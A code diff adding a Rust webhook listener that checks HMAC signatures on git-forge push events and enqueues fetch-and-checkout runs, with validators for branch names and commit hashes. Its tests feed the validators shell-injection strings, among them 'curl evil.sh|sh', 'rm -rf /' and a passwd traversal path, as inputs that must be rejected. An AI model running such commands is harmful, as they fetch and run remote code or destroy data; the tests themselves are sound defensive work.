@@ -0,0 +1,288 @@
+//! Webhook ingress that turns git-forge push events into enqueued runs.
+//!
+//! Optional: only starts if a listen address is configured (see
+//! `load_webhook_addr()` in main.rs). Speaks just enough raw HTTP/1.1 to
+//! accept a POST with a JSON body, since the only client hitting this
+//! endpoint is a forge's webhook delivery, not a browser.
+
+use std::collections::HashMap;
+use std::sync::Arc;
+use std::time::Duration;
+
+use anyhow::{Context, Result};
+use hmac::{Hmac, Mac};
+use serde_json::json;
+use sha2::Sha256;
+use tokio::io::{AsyncBufReadExt, AsyncReadExt, AsyncWriteExt, BufReader};
+use tokio::net::{TcpListener, TcpStream};
+use tracing::{debug, info, warn};
+
+use crate::db::DbCtx;
+
+/// Reject any request claiming a body larger than this before allocating a
+/// buffer for it.
+const MAX_BODY_BYTES: usize = 1024 * 1024; // 1 MiB
+
+/// A client that claims a `Content-Length` but never finishes sending it
+/// can't pin a task open longer than this.
+const READ_TIMEOUT: Duration = Duration::from_secs(10);
+
+/// Spawn the webhook listener on `addr`, enqueueing a run via `db` for every
+/// push event it receives. If `secret` is set, every request must carry a
+/// valid `X-Hub-Signature-256` HMAC over the body or it's rejected before
+/// the payload is even parsed. `repo_workdirs` maps a repo's `full_name`
+/// (as reported in the payload) to the local checkout the fetch/checkout
+/// command should run in.
+pub fn spawn(
+    addr: String,
+    db: Arc<DbCtx>,
+    secret: Option<String>,
+    repo_workdirs: Arc<HashMap<String, String>>,
+) {
+    tokio::spawn(async move {
+        let listener = match TcpListener::bind(&addr).await {
+            Ok(listener) => listener,
+            Err(e) => {
+                warn!("webhook: failed to bind {}: {}", addr, e);
+                return;
+            }
+        };
+        info!("webhook: listening on {}", addr);
+
+        loop {
+            let (stream, peer) = match listener.accept().await {
+                Ok(pair) => pair,
+                Err(e) => {
+                    warn!("webhook: accept failed: {}", e);
+                    continue;
+                }
+            };
+            let db = db.clone();
+            let secret = secret.clone();
+            let repo_workdirs = repo_workdirs.clone();
+            tokio::spawn(async move {
+                if let Err(e) =
+                    handle_connection(stream, &db, secret.as_deref(), &repo_workdirs).await
+                {
+                    debug!("webhook: request from {} failed: {}", peer, e);
+                }
+            });
+        }
+    });
+}
+
+async fn handle_connection(
+    stream: TcpStream,
+    db: &Arc<DbCtx>,
+    secret: Option<&str>,
+    repo_workdirs: &HashMap<String, String>,
+) -> Result<()> {
+    let (read_half, mut write_half) = stream.into_split();
+    let mut reader = BufReader::new(read_half);
+
+    let (body, signature) = tokio::time::timeout(READ_TIMEOUT, read_request(&mut reader))
+        .await
+        .context("timed out reading request")??;
+
+    let (status, response_body) = if let Some(secret) = secret {
+        match signature.as_deref() {
+            Some(sig) if verify_signature(secret, &body, sig) => {
+                match enqueue_push(&body, db, repo_workdirs).await {
+                    Ok(value) => ("200 OK", value),
+                    Err(e) => ("400 Bad Request", json!({ "error": e.to_string() })),
+                }
+            }
+            _ => (
+                "401 Unauthorized",
+                json!({ "error": "missing or invalid X-Hub-Signature-256" }),
+            ),
+        }
+    } else {
+        match enqueue_push(&body, db, repo_workdirs).await {
+            Ok(value) => ("200 OK", value),
+            Err(e) => ("400 Bad Request", json!({ "error": e.to_string() })),
+        }
+    };
+
+    let response_body = serde_json::to_vec(&response_body)?;
+    let header = format!(
+        "HTTP/1.1 {status}\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
+        response_body.len(),
+    );
+    write_half.write_all(header.as_bytes()).await?;
+    write_half.write_all(&response_body).await?;
+    Ok(())
+}
+
+/// Read the request line, headers, and body, capping the body at
+/// `MAX_BODY_BYTES` before allocating. Returns the body and, if present,
+/// the `X-Hub-Signature-256` header value.
+async fn read_request(
+    reader: &mut BufReader<tokio::net::tcp::OwnedReadHalf>,
+) -> Result<(Vec<u8>, Option<String>)> {
+    let mut request_line = String::new();
+    reader.read_line(&mut request_line).await?;
+
+    let mut content_length = 0usize;
+    let mut signature = None;
+    loop {
+        let mut line = String::new();
+        let n = reader.read_line(&mut line).await?;
+        if n == 0 || line == "\r\n" || line == "\n" {
+            break;
+        }
+        if let Some((name, value)) = line.split_once(':') {
+            let value = value.trim().to_string();
+            if name.eq_ignore_ascii_case("content-length") {
+                content_length = value.parse().unwrap_or(0);
+            } else if name.eq_ignore_ascii_case("x-hub-signature-256") {
+                signature = Some(value);
+            }
+        }
+    }
+    anyhow::ensure!(
+        content_length <= MAX_BODY_BYTES,
+        "request body of {content_length} bytes exceeds the {MAX_BODY_BYTES} byte limit"
+    );
+
+    let mut body = vec![0u8; content_length];
+    reader.read_exact(&mut body).await?;
+    Ok((body, signature))
+}
+
+/// Check `signature` (a `sha256=<hex>` header value) against an HMAC-SHA256
+/// of `body` keyed by `secret`, the same scheme GitHub/Gitea use to sign
+/// webhook deliveries.
+fn verify_signature(secret: &str, body: &[u8], signature: &str) -> bool {
+    let Some(hex_digest) = signature.strip_prefix("sha256=") else {
+        return false;
+    };
+    let Ok(expected) = hex::decode(hex_digest) else {
+        return false;
+    };
+    let Ok(mut mac) = Hmac::<Sha256>::new_from_slice(secret.as_bytes()) else {
+        return false;
+    };
+    mac.update(body);
+    mac.verify_slice(&expected).is_ok()
+}
+
+/// Parse a GitHub/Gitea-style push payload and enqueue a run for its head
+/// commit, reusing the same `DbCtx::enqueue` path a manual `enqueue` command
+/// goes through.
+async fn enqueue_push(
+    body: &[u8],
+    db: &Arc<DbCtx>,
+    repo_workdirs: &HashMap<String, String>,
+) -> Result<serde_json::Value> {
+    let payload: serde_json::Value =
+        serde_json::from_slice(body).context("invalid JSON payload")?;
+
+    let repo = payload["repository"]["full_name"]
+        .as_str()
+        .context("missing repository.full_name")?
+        .to_string();
+
+    let workdir = repo_workdirs
+        .get(&repo)
+        .with_context(|| format!("no working directory configured for repo {repo:?}"))?;
+
+    let branch = payload["ref"]
+        .as_str()
+        .and_then(|r| r.strip_prefix("refs/heads/"))
+        .unwrap_or("unknown")
+        .to_string();
+    anyhow::ensure!(is_safe_branch(&branch), "unsafe branch name: {branch:?}");
+
+    let sha = payload["after"]
+        .as_str()
+        .or_else(|| payload["head_commit"]["id"].as_str())
+        .context("missing head commit sha")?
+        .to_string();
+    anyhow::ensure!(is_full_sha(&sha), "unsafe commit sha: {sha:?}");
+
+    let commit_count = payload["commits"].as_array().map(|c| c.len()).unwrap_or(0);
+    let head_commit_message = payload["head_commit"]["message"].as_str().unwrap_or("");
+
+    // branch and sha are validated above and workdir comes from our own
+    // config, not the payload, so this is safe from shell injection despite
+    // going through `sh -c` in the dispatcher.
+    let command = format!("cd {workdir} && git fetch origin {branch} && git checkout {sha}");
+    let metadata = json!({
+        "source": "webhook",
+        "repo": repo,
+        "branch": branch,
+        "sha": sha,
+        "commit_count": commit_count,
+        "head_commit_message": head_commit_message,
+    });
+
+    let (job_id, run_id) = db
+        .enqueue(&repo, &command, Some(metadata))
+        .await
+        .context("failed to enqueue job")?;
+
+    Ok(json!({ "job_id": job_id, "run_id": run_id }))
+}
+
+/// Whether `branch` is safe to interpolate into a shell command: non-empty,
+/// no path traversal, and limited to characters a git ref can actually
+/// contain, which rules out shell metacharacters.
+fn is_safe_branch(branch: &str) -> bool {
+    !branch.is_empty()
+        && !branch.contains("..")
+        && branch
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'/' | b'.'))
+}
+
+/// Whether `sha` is a full 40-character hex commit hash.
+fn is_full_sha(sha: &str) -> bool {
+    sha.len() == 40 && sha.bytes().all(|b| b.is_ascii_hexdigit())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn safe_branch_accepts_typical_refs() {
+        assert!(is_safe_branch("main"));
+        assert!(is_safe_branch("feature/foo-bar_1.2"));
+    }
+
+    #[test]
+    fn safe_branch_rejects_shell_metacharacters() {
+        assert!(!is_safe_branch("x; curl evil.sh|sh"));
+        assert!(!is_safe_branch("$(rm -rf /)"));
+        assert!(!is_safe_branch("a && b"));
+        assert!(!is_safe_branch("`reboot`"));
+    }
+
+    #[test]
+    fn safe_branch_rejects_traversal_and_empty() {
+        assert!(!is_safe_branch(""));
+        assert!(!is_safe_branch("../../etc/passwd"));
+    }
+
+    #[test]
+    fn full_sha_accepts_only_40_hex_chars() {
+        assert!(is_full_sha(&"a".repeat(40)));
+        assert!(!is_full_sha(&"a".repeat(39)));
+        assert!(!is_full_sha(&"g".repeat(40)));
+        assert!(!is_full_sha("deadbeef; rm -rf /"));
+    }
+
+    #[test]
+    fn signature_verification_matches_known_vector() {
+        let secret = "topsecret";
+        let body = b"payload";
+        let mut mac = Hmac::<Sha256>::new_from_slice(secret.as_bytes()).unwrap();
+        mac.update(body);
+        let digest = hex::encode(mac.finalize().into_bytes());
+        assert!(verify_signature(secret, body, &format!("sha256={digest}")));
+        assert!(!verify_signature(secret, body, "sha256=deadbeef"));
+        assert!(!verify_signature("wrong", body, &format!("sha256={digest}")));
+        assert!(!verify_signature(secret, body, &digest)); // missing sha256= prefix
+    }
+}